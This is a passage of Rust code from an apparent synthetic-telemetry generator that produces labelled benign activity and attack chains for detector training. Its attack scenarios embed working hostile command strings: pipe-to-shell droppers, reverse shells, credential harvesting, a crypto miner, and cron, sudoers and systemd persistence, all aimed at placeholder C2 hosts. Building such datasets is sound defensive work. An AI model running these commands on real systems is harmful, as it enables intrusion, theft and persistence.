            .collect();
        if candidates.is_empty() {
            None
        } else {
            Some(*self.rng.pick(&candidates))
        }
    }

    fn linux_host(&mut self) -> usize {
        self.host_of_role(&[Role::Web, Role::Db, Role::Ci, Role::K8s, Role::Bastion])
            .unwrap_or(0)
    }

    // ---------------------------------------------------------------- benign

    fn new_session(&mut self) -> Session {
        // (kind, weight): everyday work first, then the look-alikes.
        const KINDS: &[(&str, f64)] = &[
            ("benign_cron_job", 14.0),
            ("benign_admin_shell", 10.0),
            ("benign_ci_job", 9.0),
            ("benign_apt_upgrade", 2.0),
            ("benign_admin_rm_rf", 3.0),
            ("benign_logrotate", 3.0),
            ("benign_kubelet_nsenter", 3.0),
            ("benign_debugger", 1.2),
            ("benign_backup", 1.5),
            ("benign_installer_pipe", 1.5),
            ("benign_curl_known", 3.0),
            ("benign_visudo", 0.8),
            ("benign_crontab_edit", 1.0),
            ("benign_cloud_init_keys", 0.8),
            ("benign_modprobe", 1.0),
            ("benign_jemalloc_preload", 0.6),
            ("benign_gzip_archive", 1.2),
            ("benign_win_office", 4.0),
            ("benign_win_admin_ps", 1.2),
            ("benign_win_update", 0.8),
            ("benign_prompt_research", 0.6),
            ("benign_build_unsigned", 2.0),
        ];
        let weights: Vec<f64> = KINDS.iter().map(|(_, w)| *w).collect();
        loop {
            let kind = KINDS[self.rng.weighted(&weights)].0;
            if let Some(s) = self.benign_session(kind) {
                return s;
            }
        }
    }

    fn benign_session(&mut self, kind: &'static str) -> Option<Session> {
        let rng_user = *self.rng.pick(USERS);
        let mut steps = Vec::new();
        let proc = match kind {
            "benign_cron_job" => {
                let h = self.linux_host();
                let (cmd, exe) = *self.rng.pick(&[
                    (
                        "/bin/sh -c cd / && run-parts --report /etc/cron.hourly",
                        "/bin/sh",
                    ),
                    ("/usr/lib/php/sessionclean", "/bin/sh"),
                    (
                        "/usr/bin/certbot -q renew --no-random-sleep-on-renew",
                        "/usr/bin/python3.11",
                    ),
                    ("/sbin/e2scrub_all -A -r", "/bin/bash"),
                ]);
                let p = self.proc(
                    h,
                    exe.rsplit('/').next().unwrap_or("sh"),
                    "cron",
                    cmd,
                    exe,
                    "root",
                    None,
                );
                steps.push(audit("execve", Target::None));
                for _ in 0..self.rng.range_u32(2, 6) {
                    let f = format!("/var/lib/php/sessions/sess_{}", self.rng.alnum(26));
                    steps.push(if self.rng.chance(0.5) {
                        audit("openat", path(f))
                    } else {
                        audit("unlinkat", path(f))
                    });
                }
                p
            }
            "benign_admin_shell" => {
                let h = self.host_of_role(&[Role::Bastion, Role::Web, Role::Db])?;
                let p = self.proc(h, "bash", "sshd", "-bash", "/usr/bin/bash", rng_user, None);
                steps.push(audit("execve", Target::None));
                steps.push(audit("openat", path(format!("/home/{rng_user}/.bashrc"))));
                for _ in 0..self.rng.range_u32(3, 12) {
                    let f = *self.rng.pick(&[
                        "/etc/nginx/nginx.conf",
                        "/var/log/syslog",
                        "/etc/hosts",
                        "/etc/os-release",
                        "/var/log/nginx/error.log",
                        "/etc/systemd/system/app.service",
                    ]);
                    steps.push(audit("openat", path(f)));
                }
                steps.push(audit(
                    "write",
                    path(format!("/home/{rng_user}/.bash_history")),
                ));
                p
            }
            "benign_ci_job" => {
                let h = self.host_of_role(&[Role::Ci])?;
                let p = self.proc(
                    h,
                    "bash",
                    "gitlab-runner",
                    "bash --login -e",
                    "/usr/bin/bash",
                    "gitlab-runner",
                    None,
                );
                steps.push(audit("execve", Target::None));
                let proj = *self.rng.pick(&["group/api", "group/web", "platform/agent"]);
                for _ in 0..self.rng.range_u32(5, 25) {
                    let f = *self.rng.pick(&[
                        "Cargo.toml",
                        "src/main.rs",
                        "src/lib.rs",
                        "package.json",
                        "Makefile",
                        "go.mod",
                    ]);
                    steps.push(audit("openat", path(format!("/builds/{proj}/{f}"))));
                    if self.rng.chance(0.4) {
                        let x = self.rng.hex(16);
                        steps.push(audit(
                            "write",
                            path(format!("/builds/{proj}/target/debug/.fingerprint/{x}")),
                        ));
                    }
                }
                p
            }
            "benign_build_unsigned" => {
                // Freshly built test binaries: unsigned, no known digest.
                let h = self.host_of_role(&[Role::Ci, Role::Bastion])?;
                let bin = format!("app-{}", self.rng.hex(16));
                let exe = format!("/builds/group/api/target/debug/deps/{bin}");
                let mut p = self.proc(
                    h,
                    &bin[..15.min(bin.len())],
                    "cargo",
                    &format!("{exe} --test-threads 2"),
                    &exe,
                    "gitlab-runner",
                    None,
                );
                p.trusted = false;
                p.sha256 = None;
                steps.push(audit("execve", Target::None));
                for _ in 0..self.rng.range_u32(2, 8) {
                    let t = format!("/tmp/.tmp{}/fixture.json", self.rng.alnum(6));
                    steps.push(audit("write", path(t)));
                }
                steps.push(audit("connect", Target::Out("127.0.0.1".into(), 5432)));
                p
            }
            "benign_apt_upgrade" => {
                let h = self.linux_host();
                let kver = self.hosts[h].kernel;
                let p = self.proc(h, "dpkg", "apt-get", "/usr/bin/dpkg --status-fd 35 --unpack --auto-deconfigure /var/cache/apt/archives/linux-image.deb", "/usr/bin/dpkg", "root", None);
                steps.push(rule(
                    "execve",
                    Target::None,
                    "Launch Package Management Process in Container",
                    "Error",
                    T_PROC,
                ));
                for _ in 0..self.rng.range_u32(4, 12) {
                    let m = *self.rng.pick(&[
                        "net/ethernet/intel/e1000e/e1000e.ko",
                        "fs/ext4/ext4.ko",
                        "drivers/nvme/host/nvme.ko",
                        "net/netfilter/nf_conntrack.ko",
                    ]);
                    steps.push(audit(
                        "write",
                        path(format!("/usr/lib/modules/{kver}/kernel/{m}")),
                    ));
                }
                steps.push(rule(
                    "write",
                    path(format!("/boot/initrd.img-{kver}")),
                    "Write below binary dir",
                    "Error",
                    T_FS,
                ));
                steps.push(audit("write", path(format!("/boot/System.map-{kver}"))));
                steps.push(rule(
                    "write",
                    path("/etc/systemd/system/multi-user.target.wants/unattended-upgrades.service"),
                    "Write below etc",
                    "Error",
                    T_FS,
                ));
                steps.push(audit("rename", path("/etc/ld.so.cache")));
                p
            }
            "benign_admin_rm_rf" => {
                let h = self.host_of_role(&[Role::Bastion, Role::Ci, Role::Web])?;
                let (cmd, dir) = *self.rng.pick(&[
                    ("rm -rf build/", "/home/USER/src/project/build"),
                    ("rm -rf target/debug", "/home/USER/src/project/target/debug"),
                    ("rm -rf node_modules", "/home/USER/src/web/node_modules"),
                    ("rm -rf /tmp/pip-build-env", "/tmp/pip-build-env"),
                ]);
                let dir = dir.replace("USER", rng_user);
                let p = self.proc(h, "rm", "bash", cmd, "/usr/bin/rm", rng_user, None);
                steps.push(audit("execve", Target::None));
                for _ in 0..self.rng.range_u32(3, 20) {
                    let f = self.rng.alnum(8);
                    steps.push(audit("unlinkat", path(format!("{dir}/{f}"))));
                }
                steps.push(audit("rmdir", path(dir)));
                p
            }
            "benign_logrotate" => {
                let h = self.linux_host();
                let p = self.proc(
                    h,
                    "logrotate",
                    "cron",
                    "/usr/sbin/logrotate /etc/logrotate.conf",
                    "/usr/sbin/logrotate",
                    "root",
                    None,
                );
                steps.push(audit("execve", Target::None));
                for log in ["syslog", "auth.log", "nginx/access.log", "kern.log"] {
                    if self.rng.chance(0.7) {
                        steps.push(audit("rename", path(format!("/var/log/{log}.1"))));
                        steps.push(audit("unlinkat", path(format!("/var/log/{log}.7.gz"))));
                    }
                }
                steps.push(audit("openat", path("/var/lib/logrotate/status")));
                p
            }
            "benign_kubelet_nsenter" => {
                let h = self.host_of_role(&[Role::K8s])?;
                let target = self.rng.range_u32(2000, 60000);
                let cmd = if self.rng.chance(0.5) {
                    format!("nsenter -t {target} -n -- ss -tlnp")
                } else {
                    format!("nsenter --net=/proc/{target}/ns/net -- ip -o addr show")
                };
                let p = self.proc(
                    h,
                    "nsenter",
                    "kubelet",
                    &cmd,
                    "/usr/bin/nsenter",
                    "root",
                    None,
                );
                steps.push(rule(
                    "execve",
                    Target::None,
                    "Change thread namespace",
                    "Notice",
                    T_PRIV,
                ));
                steps.push(audit("setns", path(format!("/proc/{target}/ns/net"))));
                steps.push(audit("openat", path("/proc/net/tcp")));
                p
            }
            "benign_debugger" => {
                let h = self.host_of_role(&[Role::Bastion, Role::Db, Role::Web])?;
                let target = self.rng.range_u32(1000, 40000);
                let (name, cmd) = match self.rng.below(3) {
                    0 => ("strace", format!("strace -f -p {target} -o /tmp/trace.out")),
                    1 => ("gdb", format!("gdb -p {target} -batch -ex bt")),
                    _ => ("py-spy", format!("py-spy dump --pid {target}")),
                };
                let p = self.proc(
                    h,
                    name,
                    "bash",
                    &cmd,
                    &format!("/usr/bin/{name}"),
                    rng_user,
                    None,
                );
                steps.push(audit("execve", Target::None));
                steps.push(rule(
                    "ptrace",
                    path(format!("/proc/{target}")),
                    "PTRACE attached to process",
                    "Warning",
                    T_PRIV,
                ));
                steps.push(audit("openat", path(format!("/proc/{target}/maps"))));
                if name == "py-spy" {
                    steps.push(audit(
                        "process_vm_readv",
                        path(format!("/proc/{target}/mem")),
                    ));
                }
                steps.push(audit("write", path("/tmp/trace.out")));
                p
            }
            "benign_backup" => {
                let h = self.host_of_role(&[Role::Db, Role::Web, Role::Bastion])?;
                let (name, cmd) = *self.rng.pick(&[
                    (
                        "restic",
                        "restic -r sftp:backup@10.0.9.9:/srv/restic backup /etc /home",
                    ),
                    ("tar", "tar czf /var/backups/etc-daily.tgz /etc"),
                ]);
                let p = self.proc(
                    h,
                    name,
                    "cron",
                    cmd,
                    &format!("/usr/bin/{name}"),
                    "root",
                    None,
                );
                steps.push(audit("execve", Target::None));
                for f in [
                    "/etc/passwd",
                    "/etc/shadow",
                    "/etc/sudoers",
                    "/etc/ssh/sshd_config",
                    "/etc/ssh/ssh_host_ed25519_key",
                    "/etc/crontab",
                ] {
                    steps.push(rule(
                        "openat",
                        path(f),
                        "Read sensitive file trusted after startup",
                        "Warning",
                        T_CRED,
                    ));
                }
                steps.push(audit("connect", Target::Out("10.0.9.9".into(), 22)));
                p
            }
            "benign_installer_pipe" => {
                let h = self.host_of_role(&[Role::Ci, Role::Bastion])?;
                let (name, cmd) = *self.rng.pick(&[
                    (
                        "curl",
                        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
                    ),
                    ("curl", "curl -fsSL https://get.docker.com | sh"),
                    (
                        "wget",
                        "wget -qO- https://deb.nodesource.com/setup_20.x | bash -",
                    ),
                ]);
                let p = self.proc(
                    h,
                    name,
                    "bash",
                    cmd,
                    &format!("/usr/bin/{name}"),
                    "root",
                    None,
                );
                steps.push(audit("execve", Target::None));
                steps.push(audit("connect", Target::Out("13.35.93.87".into(), 443)));
                steps.push(audit("write", path("/root/.cargo/bin/rustup")));
                steps.push(audit("openat", path("/root/.profile")));
                p
            }
            "benign_curl_known" => {
                let h = self.linux_host();
                let (host, ip) = *self.rng.pick(KNOWN_HOSTS);
                let cmd = format!("curl -fsSL https://{host}/ -o /tmp/out.json");
                let p = self.proc(h, "curl", "bash", &cmd, "/usr/bin/curl", rng_user, None);
                steps.push(audit("execve", Target::None));
                steps.push(audit("connect", Target::Out(ip.into(), 443)));
                steps.push(audit("write", path("/tmp/out.json")));
                p
            }
            "benign_visudo" => {
                let h = self.host_of_role(&[Role::Bastion, Role::Web, Role::Db])?;
                let p = self.proc(
                    h,
                    "visudo",
                    "sudo",
                    "visudo -f /etc/sudoers.d/ops",
                    "/usr/sbin/visudo",
                    "root",
                    None,
                );
                steps.push(audit("execve", Target::None));
                steps.push(rule(
                    "openat",
                    path("/etc/sudoers.d/ops.tmp"),
                    "Write below etc",
                    "Error",
                    T_FS,
                ));
                steps.push(rule(
                    "write",
                    path("/etc/sudoers.d/ops.tmp"),
                    "Write below etc",
                    "Error",
                    T_FS,
                ));
                steps.push(rule(
                    "rename",
                    path("/etc/sudoers.d/ops"),
                    "Write below etc",
                    "Error",
                    T_FS,
                ));
                p
            }
            "benign_crontab_edit" => {
                let h = self.linux_host();
                let p = self.proc(
                    h,
                    "crontab",
                    "bash",
                    "crontab -e",
                    "/usr/bin/crontab",
                    rng_user,
                    None,
                );
                steps.push(audit("execve", Target::None));
                steps.push(rule(
                    "openat",
                    path(format!(
                        "/var/spool/cron/crontabs/tmp.{}",
                        self.rng.alnum(6)
                    )),
                    "Schedule Cron Jobs",
                    "Notice",
                    T_FS,
                ));
                steps.push(rule(
                    "rename",
                    path(format!("/var/spool/cron/crontabs/{rng_user}")),
                    "Schedule Cron Jobs",
                    "Notice",
                    T_FS,
                ));
                p
            }
            "benign_cloud_init_keys" => {
                let h = self.linux_host();
                let p = self.proc(
                    h,
                    "cloud-init",
                    "systemd",
                    "/usr/bin/python3 /usr/bin/cloud-init modules --mode=config",
                    "/usr/bin/python3.11",
                    "root",
                    None,
                );
                steps.push(audit("execve", Target::None));
                steps.push(audit("openat", path("/etc/cloud/cloud.cfg")));
                steps.push(audit("write", path("/home/ubuntu/.ssh/authorized_keys")));
                steps.push(rule(
                    "write",
                    path("/etc/ssh/sshd_config.d/60-cloudimg-settings.conf"),
                    "Write below etc",
                    "Error",
                    T_FS,
                ));
                p
            }
            "benign_modprobe" => {
                let h = self.linux_host();
                let kver = self.hosts[h].kernel;
                let m = *self
                    .rng
                    .pick(&["nf_conntrack", "br_netfilter", "overlay", "xt_REDIRECT"]);
                let parent = *self
                    .rng
                    .pick(&["systemd-modules-load", "kubelet", "containerd"]);
                let p = self.proc(
                    h,
                    "modprobe",
                    parent,
                    &format!("/sbin/modprobe -q -- {m}"),
                    "/usr/bin/kmod",
                    "root",
                    None,
                );
                steps.push(audit("execve", Target::None));
                steps.push(audit(
                    "openat",
                    path(format!("/usr/lib/modules/{kver}/modules.dep.bin")),
                ));
                steps.push(audit(
                    "finit_module",
                    path(format!(
                        "/usr/lib/modules/{kver}/kernel/net/netfilter/{m}.ko"
                    )),
                ));
                p
            }
            "benign_jemalloc_preload" => {
                let h = self.host_of_role(&[Role::Db, Role::Web])?;
                let p = self.proc(
                    h,
                    "redis-server",
                    "systemd",
                    "/usr/bin/redis-server 127.0.0.1:6380",
                    "/usr/bin/redis-server",
                    "redis",
                    None,
                );
                steps.push(audit("execve", Target::None));
                steps.push(audit(
                    "openat",
                    path("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"),
                ));
                steps.push(audit("openat", path("/etc/redis/redis.conf")));
                p
            }
            "benign_gzip_archive" => {
                let h = self.host_of_role(&[Role::Db, Role::Web])?;
                let p = self.proc(
                    h,
                    "gzip",
                    "sh",
                    "gzip -9 /var/backups/db/dump-2025-03-09.sql",
                    "/usr/bin/gzip",
                    "root",
                    None,
                );
                steps.push(audit("execve", Target::None));
                for i in 0..self.rng.range_u32(4, 16) {
                    steps.push(audit(
                        "write",
                        path(format!("/var/backups/db/part-{i:03}.sql.gz")),
                    ));
                    steps.push(audit(
                        "unlinkat",
                        path(format!("/var/backups/db/part-{i:03}.sql")),
                    ));
                }
                p
            }
            "benign_win_office" => {
                let h = self.host_of_role(&[Role::Windows])?;
                let (name, exe) = *self.rng.pick(&[
                    (
                        "WINWORD.EXE",
                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                    ),
                    (
                        "EXCEL.EXE",
                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                    ),
                    (
                        "OUTLOOK.EXE",
                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                    ),
                ]);
                let p = self.proc(
                    h,
                    name,
                    "explorer.exe",
                    &format!("\"{exe}\""),
                    exe,
                    "jdoe",
                    None,
                );
                steps.push(audit("execve", Target::None));
                for _ in 0..self.rng.range_u32(2, 8) {
                    let f = *self
                        .rng
                        .pick(&["Q3 report.docx", "budget.xlsx", "minutes.docx"]);
                    steps.push(audit(
                        "openat",
                        path(format!("C:\\Users\\jdoe\\Documents\\{f}")),
                    ));
                    steps.push(audit(
                        "write",
                        path(format!(
                            "C:\\Users\\jdoe\\AppData\\Local\\Temp\\{}.tmp",
                            self.rng.hex(8)
                        )),
                    ));
                }
                p
            }
            "benign_win_admin_ps" => {
                let h = self.host_of_role(&[Role::Windows])?;
                let cmd = *self.rng.pick(&[
                    "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1",
                    "cmd.exe /c ipconfig /all",
                ]);
                let name = cmd.split(' ').next().unwrap_or("cmd.exe");
                let p = self.proc(
                    h,
                    name,
                    "explorer.exe",
                    cmd,
                    &format!("C:\\Windows\\System32\\{name}"),
                    "jdoe",
                    None,
                );
                steps.push(audit("execve", Target::None));
                steps.push(audit("openat", path("C:\\Scripts\\inventory.ps1")));
                steps.push(audit(
                    "write",
                    path(format!(
                        "C:\\Scripts\\out\\inventory-{}.csv",
                        self.rng.hex(6)
                    )),
                ));
                p
            }
            "benign_win_update" => {
                let h = self.host_of_role(&[Role::Windows])?;
                let p = self.proc(
                    h,
                    "TrustedInstaller.exe",
                    "services.exe",
                    "C:\\Windows\\servicing\\TrustedInstaller.exe",
                    "C:\\Windows\\servicing\\TrustedInstaller.exe",
                    "SYSTEM",
                    None,
                );
                steps.push(audit("execve", Target::None));
                for f in [
                    "drivers\\ndis.sys",
                    "drivers\\USBXHCI.sys",
                    "config\\COMPONENTS",
                ] {
                    steps.push(audit("write", path(format!("C:\\Windows\\System32\\{f}"))));
                }
                p
            }
            "benign_prompt_research" => {
                let h = self.host_of_role(&[Role::Ci])?;
                let mut p = self.proc(
                    h,
                    "python3",
                    "bash",
                    "python3 -m pytest tests/test_guardrails.py -k jailbreak",
                    "/builds/ml/guardrails/.venv/bin/python3",
                    "gitlab-runner",
                    None,
                );
                p.trusted = false;
                steps.push(audit("execve", Target::None));
                steps.push(audit(
                    "openat",
                    path("/builds/ml/guardrails/data/redteam/jailbreak_prompts.jsonl"),
                ));
                steps.push(audit("connect", Target::Out("10.96.4.20".into(), 8000)));
                steps.push(audit("write", path("/builds/ml/guardrails/results.json")));
                p
            }
            _ => return None,
        };
        Some(Session {
            proc,
            steps,
            next: 0,
            label: LabelKind::Benign(kind),
        })
    }

    // ---------------------------------------------------------------- attacks

    fn new_chain(&mut self) -> Session {
        loop {
            let scenario = self.rng.below(SCENARIOS.len() as u64) as usize;
            if let Some((proc, steps)) = self.attack(scenario) {
                self.chain_counter += 1;
                return Session {
                    proc,
                    steps,
                    next: 0,
                    label: LabelKind::Attack {
                        scenario,
                        chain_id: format!("c-{:06}", self.chain_counter),
                    },
                };
            }
        }
    }

    /// A malicious process: unsigned when it is a dropped binary, and often
    /// unusual in geometry, but not always (living off the land).
    #[allow(clippy::too_many_arguments)]
    fn attacker(
        &mut self,
        host: usize,
        name: &str,
        pname: &str,
        cmd: &str,
        exe: &str,
        user: &'static str,
        dropped: bool,
    ) -> Proc {
        let container = if self.hosts[host].role == Role::K8s && self.rng.chance(0.6) {
            let app = *self.rng.pick(&["api", "orders", "web"]);
            {
                let ns = *self.rng.pick(&["shop", "payments", "default"]);
                Some(self.pod(ns, app))
            }
        } else {
            None
        };
        let mut p = self.proc(host, name, pname, cmd, exe, user, container);
        if dropped {
            p.trusted = false;
            p.sha256 = if self.rng.chance(0.7) {
                None
            } else {
                Some(self.rng.hex(64))
            };
        } else {
            p.trusted = self.rng.chance(0.5);
        }
        let u = self.rng.f64();
        p.geo = if u < 0.55 {
            self.rng.range_f64(0.5, 0.99)
        } else if u < 0.8 {
            self.rng.range_f64(0.25, 0.5)
        } else {
            self.rng.range_f64(0.04, 0.25)
        };
        p
    }

    fn web_parent(&mut self) -> &'static str {
        self.rng.pick_str(&[
            "php-fpm8.2",
            "nginx",
            "node",
            "python3",
            "java",
            "bash",
            "sh",
        ])
    }

    fn c2(&mut self) -> (String, u16) {
        let ip = (*self.rng.pick(PUBLIC_BAD_IPS)).to_owned();
        let port = *self
            .rng
            .pick(&[4444u16, 443, 8080, 1337, 9001, 53, 80, 31337]);
        (ip, port)
    }

    fn attack(&mut self, scenario: usize) -> Option<(Proc, Vec<Step>)> {
        let name = SCENARIOS[scenario].name;
        let mut s: Vec<Step> = Vec::new();
        let proc = match name {
            "dropper_curl_sh" => {
                let h = self.linux_host();
                let (ip, _) = self.c2();
                let stage = self.rng.alnum(4);
                let cmd = match self.rng.below(4) {
                    0 => format!("sh -c curl -fsSL http://{ip}/{stage}.sh | sh"),
                    1 => format!("sh -c curl -s {ip}:8080/i|bash"),
                    2 => format!("sh -c curl -k https://{ip}/install.sh | sh -s -- --silent"),
                    _ => format!("sh -c (curl -fsSL http://{ip}/{stage} || wget -q -O- http://{ip}/{stage}) | sh"),
                };
                let pname = self.web_parent();
                let p = self.attacker(h, "sh", pname, &cmd, "/usr/bin/dash", "www-data", false);
                let drop = format!(
                    "/tmp/.{}/{}",
                    self.rng.alnum(4),
                    *self.rng.pick(&["kworker", ".sshd", "dbus", "x"])
                );
                s.push(audit("execve", Target::None));
                s.push(rule(
                    "connect",
                    Target::Out(ip.clone(), 80),
                    "Unexpected outbound connection destination",
                    "Notice",
                    T_NET,
                ));
                s.push(audit("write", path(drop.clone())));
                s.push(rule(
                    "openat",
                    path(drop.clone()),
                    "Drop and execute new binary in container",
                    "Critical",
                    T_PROC,
                ));
                s.push(audit("execve", path(drop)));
                if self.rng.chance(0.6) {
                    s.push(audit("connect", Target::Out(ip, 443)));
                }
                p
            }
            "dropper_wget_bash" => {
                let h = self.linux_host();
                let (ip, _) = self.c2();
                let x = self.rng.alnum(3);
                let (pn, cmd) = match self.rng.below(3) {
                    0 => ("wget", format!("wget -q -O - http://{ip}/{x} | bash")),
                    1 => ("bash", format!("bash -c wget http://{ip}/{x}.sh -O /tmp/.{x}; chmod +x /tmp/.{x}; /tmp/.{x}")),
                    _ => ("bash", "bash -c echo d2dldCAtcU8tIGh0dHA6Ly8xLjIuMy40L3ggfCBiYXNo | base64 -d | bash".to_owned()),
                };
                let pname = self.web_parent();
                let p = self.attacker(
                    h,
                    pn,
                    pname,
                    &cmd,
                    &format!("/usr/bin/{pn}"),
                    "www-data",
                    false,
                );
                s.push(audit("execve", Target::None));
                s.push(audit("connect", Target::Out(ip, 80)));
                s.push(audit("write", path(format!("/tmp/.{x}"))));
                s.push(audit("openat", path("/etc/passwd")));
                if self.rng.chance(0.5) {
                    s.push(audit("write", path(format!("/var/tmp/.{x}.log"))));
                }
                p
            }
            "reverse_shell_bash" => {
                let h = self.linux_host();
                let (ip, port) = self.c2();
                let cmd = match self.rng.below(3) {
                    0 => format!("bash -i >& /dev/tcp/{ip}/{port} 0>&1"),
                    1 => format!("bash -c exec bash -i &>/dev/tcp/{ip}/{port} <&1"),
                    _ => format!("sh -i >& /dev/udp/{ip}/{port} 0>&1"),
                };
                let pname = self.web_parent();
                let p = self.attacker(h, "bash", pname, &cmd, "/usr/bin/bash", "www-data", false);
                s.push(audit("execve", Target::None));
                s.push(rule(
                    "connect",
                    Target::Out(ip.clone(), port),
                    "Redirect STDOUT/STDIN to Network Connection in Container",
                    "Notice",
                    T_NET,
                ));
                s.push(audit("dup2", Target::Out(ip, port)));
                for f in [
                    "/etc/passwd",
                    "/root/.ssh/id_rsa",
                    "/home/ubuntu/.bash_history",
                    "/proc/self/environ",
                ] {
                    if self.rng.chance(0.6) {
                        s.push(audit("openat", path(f)));
                    }
                }
                p
            }
            "reverse_shell_nc" => {
                let h = self.linux_host();
                let (ip, port) = self.c2();
                let (n, cmd) = match self.rng.below(4) {
                    0 => ("nc", format!("nc -e /bin/sh {ip} {port}")),
                    1 => ("ncat", format!("ncat {ip} {port} -e /bin/bash")),
                    2 => ("sh", format!("sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip} {port} >/tmp/f")),
                    _ => ("busybox", format!("busybox nc {ip} {port} -e sh")),
                };
                let pname = self.web_parent();
                let p = self.attacker(
                    h,
                    n,
                    pname,
                    &cmd,
                    &format!("/usr/bin/{n}"),
                    "www-data",
                    false,
                );
                s.push(rule(
                    "execve",
                    Target::None,
                    "Netcat Remote Code Execution in Container",
                    "Warning",
                    T_NET,
                ));
                s.push(audit("connect", Target::Out(ip.clone(), port)));
                for _ in 0..self.rng.range_u32(1, 4) {
                    s.push(audit("sendto", Target::Out(ip.clone(), port)));
                }
                s.push(audit("openat", path("/etc/shadow")));
                p
            }
            "crypto_miner" => {
                let h = self.linux_host();
                let (pool, ip) = *self.rng.pick(POOLS);
                let port = *self.rng.pick(&[3333u16, 4444, 5555, 14444, 10128]);
                let wallet = format!("4{}", self.rng.alnum(94));
                let dir = *self
                    .rng
                    .pick(&["/tmp/.x", "/dev/shm/.m", "/var/tmp/.ICE-unix"]);
                let (n, cmd) = match self.rng.below(3) {
                    0 => ("xmrig", format!("{dir}/xmrig -o stratum+tcp://{pool}:{port} -u {wallet} -k --donate-level 1")),
                    1 => ("kdevtmpfsi", format!("{dir}/kdevtmpfsi")),
                    _ => ("sysupdate", format!("{dir}/sysupdate -c {dir}/config.json --cpu-max-threads-hint=90")),
                };
                let pname = *self.rng.pick(&["cron", "bash", "sh", "kinsing"]);
                let p = self.attacker(h, n, pname, &cmd, &format!("{dir}/{n}"), "root", true);
                s.push(audit("execve", Target::None));
                s.push(audit("openat", path(format!("{dir}/config.json"))));
                for _ in 0..self.rng.range_u32(3, 10) {
                    s.push(rule(
                        "connect",
                        Target::Out(ip.into(), port),
                        "Detect outbound connections to common miner pool ports",
                        "Critical",
                        T_NET,
                    ));
                    if self.rng.chance(0.5) {
                        s.push(audit("sendto", Target::Out(ip.into(), port)));
                    }
                }
                p
            }
            "credential_access" => {
                let h = self.linux_host();
                let (n, cmd) = *self.rng.pick(&[
                    ("cat", "cat /etc/shadow"),
                    (
                        "tar",
                        "tar czf /tmp/.c.tgz /etc/shadow /etc/passwd /root/.ssh",
                    ),
                    (
                        "python3",
                        "python3 -c import crypt,spwd; print(spwd.getspall())",
                    ),
                    ("unshadow", "unshadow /etc/passwd /etc/shadow"),
                ]);
                let pname = self.web_parent();
                let p = self.attacker(h, n, pname, cmd, &format!("/usr/bin/{n}"), "root", false);
                s.push(audit("execve", Target::None));
                for f in [
                    "/etc/shadow",
                    "/etc/passwd",
                    "/etc/gshadow",
                    "/root/.ssh/id_rsa",
                    "/home/ubuntu/.aws/credentials",
                ] {
                    if f == "/etc/shadow" || self.rng.chance(0.6) {
                        s.push(rule(
                            "openat",
                            path(f),
                            "Read sensitive file untrusted",
                            "Warning",
                            T_CRED,
                        ));
                    }
                }
                s.push(audit("write", path("/tmp/.c.tgz")));
                let (ip, _) = self.c2();
                s.push(audit("connect", Target::Out(ip, 443)));
                p
            }
            "persistence_sudoers" => {
                let h = self.linux_host();
                let who = *self.rng.pick(&["www-data", "deploy", "backup"]);
                let (n, cmd) = match self.rng.below(3) {
                    0 => (
                        "sh",
                        format!("sh -c echo '{who} ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"),
                    ),
                    1 => ("tee", format!("tee -a /etc/sudoers.d/99-{who}")),
                    _ => (
                        "sed",
                        "sed -i s/^%sudo.*/%sudo ALL=(ALL:ALL) NOPASSWD: ALL/ /etc/sudoers"
                            .to_owned(),
                    ),
                };
                let pname = self.web_parent();
                let p = self.attacker(h, n, pname, &cmd, &format!("/usr/bin/{n}"), "root", false);
                s.push(audit("execve", Target::None));
                s.push(rule(
                    "openat",
                    path("/etc/sudoers"),
                    "Write below etc",
                    "Error",
                    T_FS,
                ));
                s.push(rule(
                    "write",
                    path(format!("/etc/sudoers.d/99-{who}")),
                    "Write below etc",
                    "Error",
                    T_FS,
                ));
                s.push(audit("write", path("/etc/sudoers")));
                p
            }
            "persistence_cron" => {
                let h = self.linux_host();
                let (ip, _) = self.c2();
                let x = self.rng.alnum(5);
                let (n, cmd) = match self.rng.below(3) {
                    0 => ("sh", format!("sh -c echo '*/5 * * * * root curl -fsSL http://{ip}/c.sh | sh' > /etc/cron.d/{x}")),
                    1 => ("crontab", "crontab /tmp/.cr".to_owned()),
                    _ => ("sh", format!("sh -c (crontab -l; echo '@reboot /var/tmp/.{x}') | crontab -")),
                };
                let pname = self.web_parent();
                let p = self.attacker(h, n, pname, &cmd, &format!("/usr/bin/{n}"), "root", false);
                s.push(audit("execve", Target::None));
                s.push(rule(
                    "write",
                    path(format!("/etc/cron.d/{x}")),
                    "Schedule Cron Jobs",
                    "Notice",
                    T_FS,
                ));
                s.push(audit("openat", path("/var/spool/cron/crontabs/root")));
                s.push(rule(
                    "rename",
                    path("/var/spool/cron/crontabs/root"),
                    "Schedule Cron Jobs",
                    "Notice",
                    T_FS,
                ));
                p
            }
            "persistence_systemd" => {
                let h = self.linux_host();
                let unit = *self.rng.pick(&[
                    "dbus-sync",
                    "systemd-helper",
                    "kthreadd-svc",
                    "network-monitor",
                ]);
                let (n, cmd) = if self.rng.chance(0.5) {
                    (
                        "systemctl",
                        format!("systemctl enable --now {unit}.service"),
                    )
                } else {
                    ("sh", format!("sh -c printf '[Service]\\nExecStart=/usr/local/bin/{unit}\\nRestart=always\\n' > /etc/systemd/system/{unit}.service"))
                };
                let pname = self.web_parent();
                let p = self.attacker(h, n, pname, &cmd, &format!("/usr/bin/{n}"), "root", false);
                s.push(audit("execve", Target::None));
                s.push(rule(
                    "write",
                    path(format!("/usr/local/bin/{unit}")),
                    "Write below binary dir",
                    "Error",
                    T_FS,
                ));
                s.push(rule(
                    "write",
                    path(format!("/etc/systemd/system/{unit}.service")),
                    "Write below etc",
                    "Error",
                    T_FS,
                ));
                s.push(audit(
                    "symlinkat",
                    path(format!(
                        "/etc/systemd/system/multi-user.target.wants/{unit}.service"
                    )),
                ));
                p
            }
            "persistence_ssh_keys" => {
                let h = self.linux_host();
                let key = format!(
                    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA{} root@kali",
                    self.rng.alnum(43)
                );
